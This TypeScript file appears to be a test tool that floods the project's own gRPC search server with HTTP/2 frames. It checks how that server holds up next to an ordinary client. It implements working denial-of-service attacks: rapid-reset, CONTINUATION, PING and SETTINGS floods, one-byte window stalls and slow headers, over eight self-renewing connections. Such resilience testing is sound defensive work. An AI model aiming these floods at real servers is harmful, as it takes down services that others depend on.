// A peer that floods a server with HTTP/2 frames: `flood.js <address> <kind> <seconds> <file of a request>`. A process of its own, so that the
// honest client does not wait for it.

import { readFileSync } from "node:fs";
import { connect, type Socket } from "node:net";
import { callHeaders, FLAG, frame, PREFACE, settings, TYPE, uint32 } from "./http2-frames.js";
import { framed } from "./wire-client.js";

const [address = "", kind = "", seconds = "", requestFile = ""] = process.argv.slice(2);
const [host, port] = address.split(":") as [string, string];
const request = framed(readFileSync(requestFile));
const path = "/maxsimd.v1.SearchService/Search";
const CONNECTIONS = 8;
const headers = callHeaders(path);

/** What one connection sends at its beginning, and then without a pause. */
interface Flood {
  readonly first: Buffer;
  readonly next: (round: number) => Buffer;
  /** Milliseconds between two rounds; as fast as the server reads without it. */
  readonly pauseMs?: number;
}

const plain = Buffer.concat([PREFACE, frame(TYPE.SETTINGS, 0, 0)]);
const call = (stream: number): Buffer[] => [
  frame(TYPE.HEADERS, FLAG.END_HEADERS, stream, headers),
  frame(TYPE.DATA, FLAG.END_STREAM, stream, request),
];
const FLOODS: Readonly<Record<string, Flood>> = {
  "rapid-reset": {
    first: plain,
    next: (round) => Buffer.concat([...call(2 * round + 1), frame(TYPE.RST_STREAM, 0, 2 * round + 1, uint32(8))]),
  },
  continuation: {
    first: Buffer.concat([plain, frame(TYPE.HEADERS, 0, 1, headers)]),
    next: () => frame(TYPE.CONTINUATION, 0, 1, callHeaders(path, { "x-more": "y".repeat(200) })),
  },
  ping: { first: plain, next: () => frame(TYPE.PING, 0, 0, Buffer.alloc(8)) },
  settings: { first: plain, next: (round) => frame(TYPE.SETTINGS, 0, 0, settings([4, 65_535 - (round % 2)])) },
  // Windows of one byte: each answer leaves byte by byte.
  "tiny-windows": {
    first: Buffer.concat([PREFACE, frame(TYPE.SETTINGS, 0, 0, settings([4, 1]))]),
    next: (round) =>
      Buffer.concat([
        ...(round % 40 === 0 && round < 4000 ? call((2 * round) / 40 + 1) : []),
        frame(TYPE.WINDOW_UPDATE, 0, ((2 * Math.floor(round / 40)) % 200) + 1, uint32(1)),
      ]),
  },
  "slow-headers": {
    first: plain,
    next: (round) => frame(TYPE.HEADERS, FLAG.END_HEADERS, 1, headers).subarray(round, round + 1),
    pauseMs: 100,
  },
};

const { first, next, pauseMs } = FLOODS[kind] as Flood;
const end = performance.now() + Number(seconds) * 1000;
const sockets = new Set<Socket>();

function flood(): void {
  if (performance.now() > end) return;
  const socket = connect({ host, port: Number(port) });
  sockets.add(socket);
  socket.resume();
  socket.on("error", () => undefined);
  // A server that ends the connection gets another one, as an attacker would do.
  socket.on("close", () => {
    sockets.delete(socket);
    setTimeout(flood, 10);
  });
  socket.write(first);
  let round = 0;
  const send = (): void => {
    if (socket.destroyed) return;
    const chunk = Buffer.concat(Array.from({ length: pauseMs === undefined ? 20 : 1 }, () => next(round++)));
    const room = socket.write(chunk);
    if (pauseMs !== undefined) setTimeout(send, pauseMs);
    else if (room) setImmediate(send);
    else socket.once("drain", send);
  };
  send();
}

for (let i = 0; i < CONNECTIONS; i++) flood();
setTimeout(() => process.exit(0), Number(seconds) * 1000);
